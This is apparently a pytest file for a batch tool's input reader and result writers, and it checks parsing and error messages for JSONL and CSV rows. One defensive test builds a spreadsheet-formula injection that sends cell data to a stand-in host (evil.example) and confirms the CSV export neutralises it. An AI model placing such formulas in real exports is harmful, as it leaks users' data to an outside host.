"""Reading a batch's inputs (JSONL rows and CSV rows, clear refusals of bad rows) and writing
its results."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from core.batch.inputs import BatchInputError, BatchItem, read_inputs
from core.batch.results import ItemResult, results_csv, results_jsonl


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def test_jsonl_rows_give_arguments_and_typed_parameters(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "in.jsonl",
        '{"args": ["fix #12", "urgent"], "params": {"mode": "polish", "depth": 2}}\n'
        "\n"
        '{"args": [3, true]}\n'
        '{"params": {"strict": false}}\n',
    )
    assert read_inputs(path) == [
        BatchItem(args=["fix #12", "urgent"], params={"mode": "polish", "depth": 2}),
        BatchItem(args=["3", "true"]),
        BatchItem(params={"strict": False}),
    ]


def test_csv_columns_are_the_positional_arguments_in_order(tmp_path: Path) -> None:
    path = write(tmp_path, "in.csv", 'a,"b, with a comma"\n\nsecond,row,"multi\nline"\n')
    assert read_inputs(path) == [
        BatchItem(args=["a", "b, with a comma"]),
        BatchItem(args=["second", "row", "multi\nline"]),
    ]


def test_a_csv_header_is_skipped_only_when_asked(tmp_path: Path) -> None:
    path = write(tmp_path, "in.csv", "issue,area\n#1,auth\n")
    assert read_inputs(path, header=True) == [BatchItem(args=["#1", "auth"])]
    assert len(read_inputs(path)) == 2


def test_a_file_without_a_known_suffix_is_read_by_its_content(tmp_path: Path) -> None:
    assert read_inputs(write(tmp_path, "rows", '{"args": ["x"]}\n')) == [BatchItem(args=["x"])]
    assert read_inputs(write(tmp_path, "rows.txt", "x,y\n")) == [BatchItem(args=["x", "y"])]


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ('{"args": ["ok"]', "in.jsonl:2: not JSON"),
        ('["a", "b"]', "in.jsonl:2: a row must be a JSON object"),
        ('{"arg": ["typo"]}', "in.jsonl:2: unknown key arg"),
        ('{"args": [["nested"]]}', "in.jsonl:2: 'args' must be a list of strings"),
        ('{"params": {"x": {"y": 1}}}', "in.jsonl:2: 'params' must map names to strings"),
        ('{"params": ["x"]}', "in.jsonl:2: 'params' must map names"),
    ],
)
def test_a_bad_jsonl_row_refuses_the_file_naming_the_line(
    tmp_path: Path, line: str, says: str
) -> None:
    path = write(tmp_path, "in.jsonl", '{"args": ["fine"]}\n' + line + "\n")
    with pytest.raises(BatchInputError) as caught:
        read_inputs(path)
    assert says in str(caught.value)


def test_an_empty_or_unreadable_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BatchInputError, match="no items"):
        read_inputs(write(tmp_path, "in.csv", "\n ,\n\n"))
    with pytest.raises(BatchInputError, match="cannot read"):
        read_inputs(tmp_path / "missing.jsonl")
    binary = tmp_path / "in.jsonl"
    binary.write_bytes(b'{"args": ["\xff"]}\n')
    with pytest.raises(BatchInputError, match="cannot read"):
        read_inputs(binary)


def test_a_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
    hostile = ItemResult(
        item=1,
        status="ok",
        args=["-1", "plain"],
        params={},
        run_id="r1",
        output='=HYPERLINK("http://evil.example/?"&A1,"click")',
        error="@SUM(1)",
    )
    rows = list(csv.reader(io.StringIO(results_csv([hostile]))))
    assert rows[1][2:4] == ["'-1", "plain"]
    assert rows[1][-2:] == ["'" + hostile.output, "'@SUM(1)"]
    assert json.loads(results_jsonl([hostile]))["output"] == hostile.output  # data as it was
